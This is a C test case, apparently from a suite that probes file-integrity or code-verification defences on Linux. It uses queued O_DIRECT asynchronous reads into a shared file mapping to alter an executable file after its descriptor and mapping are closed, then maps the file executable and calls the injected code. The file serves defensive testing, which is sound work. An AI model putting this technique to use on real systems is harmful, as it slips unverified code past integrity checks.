/*
 * A read from the disk is begun into a shared mapping of a file, behind many others; then mapping and descriptor
 * go, and the file is used. What was read lands in it afterwards: nobody has it open for writing, or mapped.
 * Must be seen: the changed file's digest, or that it is not stable.
 */
#include <linux/aio_abi.h>

#include "attack.h"

#define OTHER "/data/other"
enum { READS = 48, SIZE = 4 << 20 };

static struct iocb read_of(int fd, void *to, size_t size, off_t at)
{
	return (struct iocb){
		.aio_lio_opcode = IOCB_CMD_PREAD, .aio_fildes = fd, .aio_buf = (uintptr_t)to, .aio_nbytes = size, .aio_offset = at};
}

ATTACK(read_in_flight)
{
	char *busy = aligned_alloc(PAGE, SIZE), *bytes;
	struct iocb io[READS + 1], *ios[READS + 1];
	struct io_event events[READS + 1];
	aio_context_t context = 0;
	void *code;
	int fd;

	memset(busy, 0xcc, SIZE);
	memcpy(busy, evil_code, sizeof(evil_code));
	write_file(OTHER, busy, SIZE, 0644);
	fd = open(OTHER, O_RDONLY | O_DIRECT);
	if (fd < 0 && errno == EINVAL)
		absent("O_DIRECT");
	must(fsync(fd), "fsync");
	must(syscall(SYS_io_setup, READS + 1, &context), "io_setup");
	bytes = dirty_mapping(CODE);
	for (int i = 0; i < READS; i++)
		io[i] = read_of(fd, busy, SIZE, 0);
	io[READS] = read_of(fd, bytes, PAGE, 0);
	for (int i = 0; i <= READS; i++)
		ios[i] = &io[i];
	must(syscall(SYS_io_submit, context, READS + 1, ios), "io_submit");
	munmap(bytes, size_of(CODE));
	code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);
	must(syscall(SYS_io_getevents, context, READS + 1, READS + 1, events, 0), "io_getevents");
	truth(CODE);
	call(code);
	return 0;
}
